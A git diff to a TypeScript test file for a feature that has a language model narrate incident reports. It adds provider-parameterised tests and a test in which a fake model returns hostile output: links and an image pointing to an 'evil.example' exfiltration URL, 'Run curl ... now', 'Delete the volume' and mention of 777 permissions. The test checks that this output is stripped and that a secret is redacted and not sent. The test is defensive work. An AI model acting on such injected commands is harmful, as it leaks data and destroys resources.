@@ -1,11 +1,12 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { narrateReport, type NarratingContext } from '../../src/analysis/narrate-report.ts';
+import type { ModelAccess } from '../../src/model/client/model-access.ts';
 import type { ModelMemory } from '../../src/model/client/model-client.ts';
 import type { Report } from '../../src/report/report.ts';
 import { fakeKey, startFakeModel, type FakeModel } from '../support/fake-model/fake-model.ts';
 import type { Script } from '../support/fake-model/heard.ts';
-import { isLast, resultsIn } from '../support/fake-model/scripted-models.ts';
+import { isLast, lastText, resultsIn } from '../support/fake-model/scripted-models.ts';
 import { habits } from '../support/fake-model/servers.ts';
 import { ManualClock } from '../support/manual-clock.ts';
 import { aCaseFile } from '../support/samples/case-files.ts';
@@ -20,12 +21,14 @@ const answering: Script = (heard) => {
 
 function narrateWith(
   fake: FakeModel,
-  { secrets = [], ...over }: Partial<NarratingContext> & { secrets?: string[] } = {},
+  { secrets = [], provider = 'openai-chat', ...over }: Partial<NarratingContext> & {
+    secrets?: string[]; provider?: ModelAccess['provider'];
+  } = {},
   report: Report = sampleReport(),
   question: string | null = null,
 ): Promise<Report> {
   const access = {
-    provider: 'openai-chat' as const, url: fake.url, name: 'fake-1', apiKey: fakeKey, effort: null,
+    provider, url: fake.url, name: 'fake-1', apiKey: fakeKey, effort: null,
     requestMs: 30_000,
   };
   return narrateReport({
@@ -52,6 +55,47 @@ test('narrateReport learns the habits of a server once for all that share a memo
   assert.equal(fake.refusals.length, length);
   await narrateWith(fake);
   assert.equal(fake.refusals.length, 2 * length);
+});
+
+for (const provider of ['openai', 'openai-chat', 'anthropic'] as const) {
+  test(`a strict server of ${provider} takes the whole investigation`, async (t) => {
+    const wrong = { ...sound, quote: 'never said by anybody' };
+    const fake = await startFakeModel(t, (heard) => {
+      if (!isLast(heard)) {
+        const calls = [{ name: 'prom_instant', arguments: { query: 'up', minutes_ago: null } }];
+        return resultsIn(heard) > 0 ? { text: 'Enough.' } : { calls };
+      }
+      const isCorrected = /Code has compared your answer/.test(lastText(heard));
+      const findings = isCorrected ? [sound] : [sound, wrong];
+      return { text: JSON.stringify(anAnswer({ findings })) };
+    });
+    const { narrative } = await narrateWith(fake, {
+      provider, sources: { ...noSources, prometheus: cannedPrometheus(() => vectorOf(1)) },
+    });
+    assert.deepEqual(fake.refusals, []);
+    assert.equal(fake.requests.length, 3);
+    assert.ok(narrative.state === 'present', JSON.stringify(narrative));
+    assert.deepEqual(narrative.asserted, { made: 2, held_at_first: 1, held: 1 });
+  });
+}
+
+test('an answer to a question leads nowhere and leaks nothing', async (t) => {
+  const evil = 'https://evil.example/?d=';
+  const fake = await startFakeModel(t, () => ({ text: JSON.stringify(anAnswer({
+    findings: [{ ...sound, reading: `See ${evil}x.` }],
+    reading: `It is slow. See ![x](${evil}y) Run curl ${evil}z now. Delete the volume. It has 777.`,
+    missing: [`What ${evil} says.`],
+  })) }));
+  const { questions = [], narrative } = await narrateWith(
+    fake, { secrets: ['hunter2hunter2'] }, sampleReport(), 'Is it hunter2hunter2?',
+  );
+  const [answer] = questions;
+  assert.match(answer?.question ?? '', /^Is it \[secret-\d+\]\?$/);
+  assert.equal(answer?.text, 'It is slow.');
+  assert.deepEqual([answer.claims.length, answer.claims[0]?.reading, answer.missing], [1, null, []]);
+  assert.deepEqual(narrative, sampleReport().narrative);
+  const sent = JSON.stringify(fake.requests.map(({ heard }) => heard));
+  assert.doesNotMatch(sent, /hunter2/);
 });
 
 /** Holds of the sample report. */
